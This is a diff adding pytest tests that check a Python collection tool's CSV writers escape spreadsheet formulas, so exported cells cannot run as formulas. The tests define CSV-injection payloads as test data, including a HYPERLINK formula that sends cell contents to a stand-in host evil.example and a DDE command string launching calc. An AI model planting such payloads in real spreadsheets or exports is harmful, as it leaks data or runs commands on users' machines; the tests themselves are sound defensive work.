@@ -368,3 +368,65 @@ def test_the_too_large_message_names_our_limit_not_pillows():
         with pytest.raises(Exception, match=rf"too-large: .*{size * size:,} pixels, over the limit of 1,000,000 "
                                             r"\(\[images\] max_pixels"):
             decode(png_header_only(size, size), max_pixels=1_000_000)
+
+
+# -- round two (issue 22) ---------------------------------------------------------------------
+# -- formula-safe CSVs ------------------------------------------------------------------------
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+CMD = "+cmd|' /C calc'!A0"
+
+
+def csv_cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as fh:
+        return list(csv.reader(fh))
+
+
+def assert_no_formula(path: Path) -> None:
+    for row in csv_cells(path):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)
+
+
+def test_csvfile_escapes_formulas_keeps_numbers_and_reads_back_what_was_written(tmp_path):
+    from muses import csvfile
+
+    cells = [HYPERLINK, CMD, "-12", "@SUM(A1)", "\tx", "\rx", "'quoted", "plain", ""]
+    path = csvfile.write(tmp_path / "a.csv", [{"text": c, "n": -0.5} for c in cells], ["text", "n"], bom=True)
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads the file as UTF-8
+    rows = csv_cells(path)
+    assert rows[0] == ["\ufefftext", "n"]
+    assert [r[0] for r in rows[1:]] == ["'" + c if c[:1] in ("=", "+", "-", "@", "\t", "\r", "'") else c for c in cells]
+    assert {r[1] for r in rows[1:]} == {"-0.5"}  # a number stays a number
+    with path.open(newline="", encoding="utf-8-sig") as fh:
+        columns, rows = csvfile.records(fh)
+        assert columns == ["text", "n"] and [r["text"] for r in rows] == cells
+    assert sorted(["A.10", "A.2", "a.1", "B", "A.02"], key=csvfile.natural_key) == ["a.1", "A.02", "A.2", "A.10", "B"]
+
+
+def test_every_csv_a_curator_opens_is_formula_safe(project, tmp_path):
+    from muses.analysis.reports import write_csv
+    from muses.collection.decisions import Decision, export_csv
+    from muses.datasets.folder import read_dataset
+    from muses.datasets.naive import NaiveExporter
+    from test_datasets_naive import COLLECTION, DEFINITIONS, fill_store
+
+    project.definitions_path.write_text(DEFINITIONS, encoding="utf-8")
+    fill_store(project, [*COLLECTION, ("-12", "Vase", ["Vases"], ["ok"]), ("@u3", HYPERLINK, [], ["ok"]),
+                         ("u4", CMD, [], ["ok"])])
+    out = NaiveExporter(min_items=3, seed=7, progress=False).export(project).path
+    assert_no_formula(out / "left-out.csv")
+    assert_no_formula(out / "manifest.csv")
+    # The dataset reads its manifest back: an object number starting with "-" keeps its "-".
+    assert "-12" in {s.item_id for s in read_dataset(out).samples}
+    # plots/*_label_issues.csv and *_suggested_labels.csv go through the same writer.
+    issues = write_csv(tmp_path / "m_label_issues.csv", [{"id": "-3", "title": HYPERLINK, "p": -0.25}], ["id", "title", "p"])
+    assert csv_cells(issues)[1] == ["'-3", "'" + HYPERLINK, "-0.25"]
+    import datetime as dt
+    decided = dt.datetime(2026, 12, 1)
+    text = export_csv({i: Decision(item_id=i, field="class", catalog_value=CMD, suggested_value="vase", action="confirm",
+                                   reviewer="=1+1", decided_at=decided, value="vase") for i in ("A.10", "A.2")})
+    lines = text.splitlines()
+    assert lines[1].startswith("A.2,") and lines[2].startswith("A.10,")  # object number order, A.2 before A.10
+    assert "'+cmd" in text and "'=1+1" in text
